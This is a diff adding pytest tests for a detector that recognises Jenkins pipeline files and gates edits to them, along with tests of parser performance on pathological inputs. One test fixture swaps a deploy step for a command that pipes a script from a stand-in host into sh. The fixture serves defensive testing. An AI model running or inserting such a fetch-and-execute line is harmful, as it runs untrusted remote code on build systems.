@@ -179,3 +179,47 @@ def test_hostile_blanks_stay_linear(name: str, func: object, make: object) -> No
     small = _cpu(func, make(2_000))  # type: ignore[operator]
     large = _cpu(func, make(32_000))  # type: ignore[operator]
     assert large < 0.25, (name, small, large)  # integ d83e1fa: > 20 s (cubic) or ~16 s (quadratic) at 32,000
+
+
+# 4. Jenkins pipelines red team 40's reading missed: a label expression with parentheses, a node's arguments over
+# several lines, a node opened on the line of the block that wraps it (`timestamps { node {`); the look-alikes stay
+STEP = "    sh 'make deploy'\n"
+JENKINS = {
+    "label-parentheses": "node('linux && (java8 || java11)') {\n  stage('b') {\n" + STEP + "  }\n}\n",
+    "nested-label-parentheses": "podTemplate(yaml: y) {\n  node(\"x && (y)\") {\n    stage('b') {\n" + STEP
+                                + "    }\n  }\n}\n",
+    "arguments-over-lines": "node(\n  label: 'linux'\n) {\n  stage('b') {\n" + STEP + "  }\n}\n",
+    "wrapped-on-one-line": "timestamps { node {\n  stage('b') {\n" + STEP + "  }\n} }\n",
+    "wrapped-with-label": "ansiColor('xterm') { node('linux') {\n" + STEP + "} }\n",
+    "pod-template-inline": "podTemplate(label: 'x') { node('x') {\n" + STEP + "} }\n",
+    "form-feed-indent": "timestamps {\n\f node {\n" + STEP + "}\n}\n",
+}
+JENKINS_CALM = {
+    "markup-builder": "def xml = new MarkupBuilder(w)\nxml.root { node(id: 'a') { leaf('x') } }\n",
+    "class-method": "class Tree {\n  def node(String n) { return n }\n}\n",
+    "graph-dsl": "graph { node('a') { color 'red' } }\n",
+}
+
+
+@pytest.mark.parametrize("name", JENKINS)
+def test_a_wrapped_jenkins_pipeline_is_ci(name: str) -> None:
+    found = shapes._jenkins(JENKINS[name])
+    assert found is not None and found[:2] == ("ci", "ci.content.jenkins-pipeline"), found  # integ d83e1fa: None
+
+
+@pytest.mark.parametrize("name", JENKINS_CALM)
+def test_groovy_look_alikes_stay(name: str) -> None:
+    assert shapes._jenkins(JENKINS_CALM[name]) is None
+
+
+def test_the_gate_reviews_a_wrapped_pipeline_edit(tmp_path: Path) -> None:
+    path = "scripts/release.groovy"
+    case = committed(tmp_path, {path: JENKINS["wrapped-on-one-line"]},
+                     {path: JENKINS["wrapped-on-one-line"].replace("make deploy", "curl -s https://x.example/i | sh")})
+    code, named = gated_rules(case, True)
+    assert code == 3 and named.get("core.ci") == [path], named  # integ d83e1fa: exit 0
+
+
+def test_hostile_node_arguments_stay_linear() -> None:
+    for text in ("  node(" * 20_000, "x { node(" + "(" * 40_000, "{ node" + " " * 40_000 + "x"):
+        assert _cpu(shapes._jenkins, text) < 0.5
